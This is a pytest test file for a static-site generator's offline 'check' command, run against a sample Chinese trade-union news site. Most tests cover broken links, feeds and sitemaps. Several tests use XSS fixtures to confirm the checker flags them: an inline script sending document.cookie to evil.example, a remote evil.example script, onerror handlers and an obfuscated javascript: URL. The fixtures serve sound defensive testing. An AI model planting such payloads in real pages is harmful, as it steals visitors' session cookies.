"""`sitegen check`: a built site is checked offline, and each problem names the page and line.

The built sites here are written by hand (as the layouts would write them) so each test can
break exactly one thing; the last tests run the real build first.
"""

from __future__ import annotations

import argparse
import shutil
import textwrap
from pathlib import Path

import pytest

from sitegen import check
from sitegen.check import check_site

SITE_YAML = """\
title: 長春市總工會新聞檔案
base_url: {base_url}
categories:
  - slug: law
    name: 法律維權
"""


def page(kind: str, body: str, base: str = "/") -> str:
    """A page as the layouts write it; `body` starts on line 10."""
    return (
        "<!doctype html>\n"
        '<html lang="zh-Hant">\n'
        "<head>\n"
        '<meta charset="utf-8">\n'
        "<title>法律維權 - 長春市總工會新聞檔案</title>\n"
        f'<link rel="stylesheet" href="{base}static/site.css">\n'
        f'<link rel="alternate" type="application/atom+xml" href="{base}feed.xml">\n'
        "</head>\n"
        f'<body data-page-kind="{kind}">\n'
        f"{textwrap.dedent(body).strip()}\n"
        "</body>\n"
        "</html>\n"
    )


def feed(base_url: str, entry_url: str, *, at: str = "", title: str = "職工法律服務月") -> str:
    """The Atom feed written at base_url + at + feed.xml."""
    return textwrap.dedent(f"""\
        <?xml version="1.0" encoding="utf-8"?>
        <feed xmlns="http://www.w3.org/2005/Atom" xml:lang="zh-Hant">
          <title>長春市總工會新聞檔案</title>
          <id>{base_url}</id>
          <updated>2018-09-21T14:29:29+08:00</updated>
          <link rel="self" href="{base_url}{at}feed.xml"/>
          <entry>
            <title>{title}</title>
            <id>{entry_url}</id>
            <updated>2018-09-21T14:29:29+08:00</updated>
            <link href="{entry_url}"/>
          </entry>
        </feed>
        """)


def sitemap_index(base_url: str) -> str:
    return textwrap.dedent(f"""\
        <?xml version="1.0" encoding="utf-8"?>
        <sitemapindex xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">
          <sitemap><loc>{base_url}sitemap-1.xml</loc></sitemap>
        </sitemapindex>
        """)


def sitemap(*locs: str) -> str:
    urls = "\n".join(f"  <url><loc>{loc}</loc></url>" for loc in locs)
    return (
        '<?xml version="1.0" encoding="utf-8"?>\n'
        '<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">\n'
        f"{urls}\n"
        "</urlset>\n"
    )


def clean_site(base_url: str = "https://news.example.org/") -> dict[str, str | bytes]:
    """Home, a category, one article with its print view, 404, feeds, sitemaps, static files."""
    b = "/" + base_url.split("/", 3)[3]  # the base path: "/" or "/news/"
    article = f"{base_url}law/union-services/"
    return {
        "site.yaml": SITE_YAML.format(base_url=base_url),
        "public/index.html": page(
            "home",
            f"""
            <a href="#main" class="skip">跳到正文</a>
            <img src="{b}static/logo.png" srcset="{b}static/logo.png 1x, {b}static/logo@2x.png 2x"
                 alt="長春市總工會">
            <main id="main">
            <h2><a href="{b}law/">法律維權</a></h2>
            <a href="{b}law/union-services/">市總工會開展職工法律服務月活動</a>
            <a href="mailto:news@example.org">聯繫我們</a>
            <a href="https://www.gov.cn/">中國政府網</a>
            </main>
            """,
            b,
        ),
        "public/law/index.html": page(
            "category", '<a href="union-services/">市總工會開展職工法律服務月活動</a>', b
        ),
        "public/law/union-services/index.html": page(
            "article",
            f"""
            <h1 id="title">市總工會開展職工法律服務月活動</h1>
            <p>來源：長春市總工會 <a href="print.html" target="_blank">打印</a></p>
            <p><a href="{b}static/files/%E6%B3%95%E5%BE%8B%E6%9C%8D%E5%8B%99.pdf">附件</a></p>
            <a href="#title">回到標題</a> <a href="{b}law/">法律維權</a>
            """,
            b,
        ),
        "public/law/union-services/print.html": page(
            "print",
            f'<h1 id="title">市總工會開展職工法律服務月活動</h1><a href="{article}">本文</a>',
            b,
        ),
        "public/404.html": page("404", f'<a href="{b}">返回首頁</a>', b),
        "public/feed.xml": feed(base_url, article),
        "public/law/feed.xml": feed(base_url, article, at="law/"),
        "public/sitemap.xml": sitemap_index(base_url),
        "public/sitemap-1.xml": sitemap(base_url, f"{base_url}law/", article),
        "public/static/site.css": "body { font-family: sans-serif; }\n",
        "public/static/logo.png": b"\x89PNG\r\n\x1a\n",
        "public/static/logo@2x.png": b"\x89PNG\r\n\x1a\n",
        "public/static/files/法律服務.pdf": b"%PDF-1.4\n",
    }


def write_site(root: Path, files: dict[str, str | bytes | None]) -> Path:
    """Write `files` under root; None removes a file the clean site would have."""
    for name, content in files.items():
        target = root / name
        if content is None:
            target.unlink()
            continue
        target.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, bytes):
            target.write_bytes(content)
        else:
            target.write_text(content, encoding="utf-8")
    return root


def checked(root: Path, changes: dict[str, str | bytes | None]) -> list[str]:
    """The problems found in the clean site after `changes`."""
    write_site(root, clean_site())
    write_site(root, changes)
    return [str(p) for p in check_site(root, sources=False).problems]


def test_a_clean_built_site_passes(tmp_path):
    write_site(tmp_path, clean_site())
    report = check_site(tmp_path, sources=False)
    assert report.problems == ()
    assert (report.pages, report.external) == (5, 1)  # gov.cn counted, not fetched
    assert report.summary() == (
        f"checked 9 pages (5 HTML, 4 feeds and sitemaps), {report.links} links: 0 problems"
    )


def test_a_link_to_a_page_that_was_not_built_is_reported_with_page_and_line(tmp_path):
    body = '<h1 id="title">工會要聞</h1>\n<a href="/law/missing-article/">舊文章</a>'
    assert checked(tmp_path, {"public/law/index.html": page("category", body)}) == [
        "public/law/index.html:11: error: broken link /law/missing-article/ "
        "(no file public/law/missing-article/index.html)"
    ]


def test_a_missing_image_is_reported_for_src_and_srcset(tmp_path):
    body = (
        '<img src="/static/photo.jpg" alt="">\n<img srcset="/static/a.jpg 1x, /static/logo.png 2x">'
    )
    assert checked(tmp_path, {"public/404.html": page("404", body)}) == [
        "public/404.html:10: error: missing image /static/photo.jpg "
        "(no file public/static/photo.jpg)",
        "public/404.html:11: error: missing image /static/a.jpg (no file public/static/a.jpg)",
    ]


def test_a_missing_attachment_is_reported_with_its_decoded_file_name(tmp_path):
    problems = checked(tmp_path, {"public/static/files/法律服務.pdf": None})
    assert problems == [
        "public/law/union-services/index.html:12: error: broken link "
        "/static/files/%E6%B3%95%E5%BE%8B%E6%9C%8D%E5%8B%99.pdf "
        "(no file public/static/files/法律服務.pdf)"
    ]


def test_a_missing_stylesheet_is_reported_on_every_page_that_uses_it(tmp_path):
    problems = checked(tmp_path, {"public/static/site.css": None})
    assert len(problems) == 5
    assert problems[0] == (
        "public/404.html:6: error: missing file /static/site.css (no file public/static/site.css)"
    )


def test_a_malformed_feed_is_reported_with_its_line(tmp_path):
    entry = "https://news.example.org/law/union-services/"
    broken = feed("https://news.example.org/", entry, at="law/", title="職工&家屬法律服務")
    assert checked(tmp_path, {"public/law/feed.xml": broken}) == [
        "public/law/feed.xml:8: error: is not well-formed XML: not well-formed (invalid token)"
    ]


def test_feed_urls_must_be_absolute_and_lead_to_built_pages(tmp_path):
    relative = feed("https://news.example.org/", "/law/union-services/")
    gone = feed("https://news.example.org/", "https://news.example.org/law/gone/", at="law/")
    assert checked(tmp_path, {"public/feed.xml": relative, "public/law/feed.xml": gone}) == [
        "public/feed.xml:9: error: <id> '/law/union-services/' is not an absolute URI",
        "public/feed.xml:11: error: <link href> '/law/union-services/' is not an absolute URL",
        "public/law/feed.xml:11: error: broken link https://news.example.org/law/gone/ "
        "(no file public/law/gone/index.html)",
    ]


def test_an_rss_file_named_feed_xml_is_not_accepted_as_atom(tmp_path):
    rss = '<?xml version="1.0"?>\n<rss version="2.0"><channel><title>要聞</title></channel></rss>\n'
    assert checked(tmp_path, {"public/feed.xml": rss}) == [
        "public/feed.xml: error: is not an Atom feed (root element <rss>)"
    ]


def test_sitemap_locs_must_be_absolute_on_base_url_and_lead_to_built_pages(tmp_path):
    urls = sitemap("https://news.example.org/law/gone/", "/law/", "https://other.example.org/")
    assert checked(tmp_path, {"public/sitemap-1.xml": urls}) == [
        "public/sitemap-1.xml:3: error: broken link https://news.example.org/law/gone/ "
        "(no file public/law/gone/index.html)",
        "public/sitemap-1.xml:4: error: <loc> '/law/' is not an absolute URL",
        "public/sitemap-1.xml:5: error: <loc> https://other.example.org/ is not under base_url "
        "https://news.example.org/",
    ]


def test_a_site_without_feed_or_sitemap_is_reported(tmp_path):
    problems = checked(tmp_path, {"public/feed.xml": None, "public/sitemap.xml": None})
    feed_missing = "public/feed.xml: error: is missing: the build writes the site's Atom feed here"
    assert feed_missing in problems
    assert "public/sitemap.xml: error: is missing: the build writes the sitemap here" in problems
    # and every page's <link rel="alternate"> to the feed is broken
    assert len(problems) == 2 + 5
    assert (
        problems[0] == "public/404.html:7: error: missing file /feed.xml (no file public/feed.xml)"
    )


def test_an_article_without_its_print_view_is_reported(tmp_path):
    body = '<h1 id="title">市總工會開展職工法律服務月活動</h1>'
    problems = checked(
        tmp_path,
        {
            "public/law/union-services/print.html": None,
            "public/law/union-services/index.html": page("article", body),
        },
    )
    assert problems == [
        "public/law/union-services/index.html: error: article has no print view "
        "(no file public/law/union-services/print.html)"
    ]


def test_duplicate_ids_in_one_page_are_reported_at_the_second_one(tmp_path):
    body = '<div id="main">\n<p>正文</p>\n</div><div id="nav"></div><div id="main"></div>'
    assert checked(tmp_path, {"public/404.html": page("404", body)}) == [
        "public/404.html:12: error: duplicate id 'main' (first at line 10)"
    ]


def test_a_fragment_pointing_at_no_id_is_reported_in_the_same_and_another_page(tmp_path):
    body = '<a href="#content">跳到正文</a>\n<a href="/law/union-services/#comments">評論</a>'
    assert checked(tmp_path, {"public/404.html": page("404", body)}) == [
        "public/404.html:10: error: broken fragment #content (no id 'content' in public/404.html)",
        "public/404.html:11: error: broken fragment /law/union-services/#comments "
        "(no id 'comments' in public/law/union-services/index.html)",
    ]


def test_a_redirect_page_for_an_old_url_must_lead_to_a_built_page(tmp_path):
    redirect = (
        '<!doctype html>\n<meta charset="utf-8">\n'
        '<meta http-equiv="refresh" content="0; url=/law/union-service/">\n'
        '<body data-page-kind="redirect"><a href="/law/union-services/">頁面已移動到</a></body>\n'
    )
    assert checked(tmp_path, {"public/html/2018/09/21/123.html": redirect}) == [
        "public/html/2018/09/21/123.html:3: error: redirect to a missing page /law/union-service/ "
        "(no file public/law/union-service/index.html)"
    ]


def test_javascript_urls_are_reported(tmp_path):
    body = '<a href="javascript:window.print()">打印</a>'
    assert checked(tmp_path, {"public/404.html": page("404", body)}) == [
        "public/404.html:10: error: javascript: URL: use a real link or a button"
    ]


def test_a_site_under_a_base_path_resolves_prefixed_links_and_reports_unprefixed_ones(tmp_path):
    write_site(tmp_path, clean_site("https://union.example.org/news/"))
    assert check_site(tmp_path, sources=False).problems == ()
    body = '<a href="/news/law/">法律維權</a>\n<a href="/law/union-services/">舊連結</a>'
    write_site(tmp_path, {"public/404.html": page("404", body, "/news/")})
    assert [str(p) for p in check_site(tmp_path, sources=False).problems] == [
        "public/404.html:11: error: link /law/union-services/ is outside the site's base path "
        "/news/ (write /news/law/union-services/)"
    ]


def test_percent_encoded_chinese_slugs_resolve_and_a_wrong_one_is_reported(tmp_path):
    body = (
        '<a href="/law/%E5%B7%A5%E6%9C%83%E6%B3%95/">工會法</a>\n'
        '<a href="/law/工會法/">工會法</a>\n'
        '<a href="/law/%E5%B7%A5%E6%9C%83/">工會</a>'
    )
    problems = checked(
        tmp_path,
        {
            "public/404.html": page("404", body),
            "public/law/工會法/index.html": page("category", "<p>工會法</p>"),
        },
    )
    assert problems == [
        "public/404.html:12: error: broken link /law/%E5%B7%A5%E6%9C%83/ "
        "(no file public/law/工會/index.html)"
    ]


def test_parallel_workers_find_the_same_problems_as_one_process(tmp_path, monkeypatch):
    write_site(tmp_path, clean_site())
    for n in range(12):
        body = f'<a href="/law/n{n + 1}/">下一篇</a><div id="x"></div><div id="x"></div>'
        write_site(tmp_path, {f"public/law/n{n}/index.html": page("category", body)})
    serial = check_site(tmp_path, sources=False, jobs=1)
    monkeypatch.setattr(check, "PARALLEL_FROM", 1)
    parallel = check_site(tmp_path, sources=False, jobs=2)
    assert parallel == serial
    assert len(serial.problems) == 13  # 12 duplicate ids and the link to n12


def test_check_command_prints_each_problem_and_a_summary_and_exits_1(tmp_path, capsys):
    write_site(tmp_path, clean_site())
    assert _run_cli(tmp_path) == 0
    assert capsys.readouterr().out.splitlines()[-1].endswith(" links: 0 problems")
    write_site(tmp_path, {"public/static/logo@2x.png": None})
    assert _run_cli(tmp_path) == 1
    lines = capsys.readouterr().out.splitlines()
    assert lines[0] == (
        "public/index.html:11: error: missing image /static/logo@2x.png "
        "(no file public/static/logo@2x.png)"
    )
    assert lines[1].startswith("checked 9 pages (5 HTML, 4 feeds and sitemaps), ")
    assert lines[1].endswith(" links: 1 problem")


def test_check_command_reads_another_output_folder(tmp_path, capsys):
    write_site(tmp_path, clean_site())
    shutil.move(tmp_path / "public", tmp_path / "dist")
    assert _run_cli(tmp_path, "--out", str(tmp_path / "dist")) == 0
    assert _run_cli(tmp_path) == 1
    assert capsys.readouterr().out.splitlines()[-2] == (
        "public: error: no built site here: run `sitegen build` first"
    )


def test_a_folder_without_site_yaml_is_reported(tmp_path, capsys):
    assert _run_cli(tmp_path) == 1
    assert capsys.readouterr().out.startswith(f"site.yaml: error: no site.yaml in {tmp_path}")


def _run_cli(root: Path, *extra: str) -> int:
    parser = argparse.ArgumentParser(prog="sitegen")
    check.register(parser.add_subparsers())
    args = parser.parse_args(["check", str(root), "--no-sources", "--jobs", "1", *extra])
    return args.func(args)


# --- with the real build -----------------------------------------------------------------

REPO = Path(__file__).resolve().parents[1]

ARTICLE = """\
---
title: 市總工會開展職工法律服務月活動
date: 2018-09-21 14:29:29
category: law
source: 長春市總工會
editor: 王明
aliases: [/html/2018/09/21/123.html]
---
為維護職工合法權益，市總工會九月開展法律服務月活動。

## 服務內容

- 免費法律諮詢
- 勞動合同審查
"""


def built_site(root: Path, articles: dict[str, str]) -> Path:
    pipeline = pytest.importorskip("sitegen.pipeline", reason="the build pipeline is not here yet")
    # no layouts/ or static/: the packaged theme's
    write_site(root, {"site.yaml": SITE_YAML.format(base_url="https://news.example.org/")})
    write_site(root, articles)
    result = pipeline.build_site(root)
    assert [str(p) for p in result.problems] == []
    return root


def test_a_site_built_by_sitegen_passes_the_check(tmp_path):
    root = built_site(tmp_path, {"content/law/union-services.md": ARTICLE})
    report = check_site(root)
    assert [str(p) for p in report.problems] == []
    assert report.pages >= 5  # home, category, article, print view, redirect


def test_front_matter_problems_in_the_sources_fail_the_check(tmp_path):
    pytest.importorskip("sitegen.pipeline", reason="the build pipeline is not here yet")
    root = built_site(tmp_path, {"content/law/union-services.md": ARTICLE})
    write_site(
        root, {"content/law/untitled.md": "---\ndate: 2018-09-22\ncategory: law\n---\n正文\n"}
    )
    problems = check_site(root).problems
    assert [p.path.as_posix() for p in problems] == ["content/law/untitled.md"]
    assert "title" in problems[0].message


def test_an_inline_script_is_reported(tmp_path):
    body = (
        "<p>正文</p>\n<script>fetch('https://evil.example/?' + document.cookie)</script>\n"
        '<script type="application/ld+json">{"@type": "NewsArticle"}</script>'  # data: not run
    )
    assert checked(tmp_path, {"public/404.html": page("404", body)}) == [
        "public/404.html:11: error: inline <script>, which sitegen's layouts never write: "
        "remove it from the layout or article with it"
    ]


def test_a_script_from_outside_static_js_is_reported(tmp_path):
    body = '<script src="https://evil.example/x.js"></script>'
    assert checked(tmp_path, {"public/404.html": page("404", body)}) == [
        "public/404.html:10: error: <script> from https://evil.example/x.js, outside static/js/, "
        "which sitegen's layouts never write: remove it from the layout or article with it"
    ]


def test_only_scripts_from_static_js_pass_as_the_layouts_load_them(tmp_path):
    body = '<script src="/static/js/print.js" defer></script>\n<script src="/static/x.js"></script>'
    files = {"public/static/js/print.js": "", "public/static/x.js": ""}
    assert checked(tmp_path, {"public/404.html": page("404", body), **files}) == [
        "public/404.html:11: error: <script> from /static/x.js, outside static/js/, "
        "which sitegen's layouts never write: remove it from the layout or article with it"
    ]


def test_event_attributes_are_reported_with_their_element(tmp_path):
    body = '<img src="/static/logo.png" alt="" onerror="alert(1)">\n<p ONCLICK="x()">段</p>'
    assert checked(tmp_path, {"public/404.html": page("404", body)}) == [
        "public/404.html:10: error: event attribute onerror= on <img>, which sitegen's layouts "
        "never write: remove it from the layout or article with it",
        "public/404.html:11: error: event attribute onclick= on <p>, which sitegen's layouts "
        "never write: remove it from the layout or article with it",
    ]


def test_javascript_urls_in_any_url_attribute_are_reported(tmp_path):
    body = '<form><button formaction=" java\tscript:alert(1)">送出</button></form>'
    assert checked(tmp_path, {"public/404.html": page("404", body)}) == [
        "public/404.html:10: error: javascript: URL: use a real link or a button"
    ]


def test_scripts_and_event_attributes_are_not_reported_where_site_yaml_trusts_the_html(tmp_path):
    body = '<script>x()</script><img src="/static/logo.png" alt="" onload="y()">'
    site_yaml = SITE_YAML.format(base_url="https://news.example.org/")
    found = {}
    for html in ("safe", "trusted"):
        write_site(tmp_path, clean_site())
        write_site(tmp_path, {"site.yaml": f"{site_yaml}html: {html}\n",
                              "public/404.html": page("404", body)})  # fmt: skip
        found[html] = len(check_site(tmp_path, sources=False).problems)
    assert found == {"safe": 2, "trusted": 0}
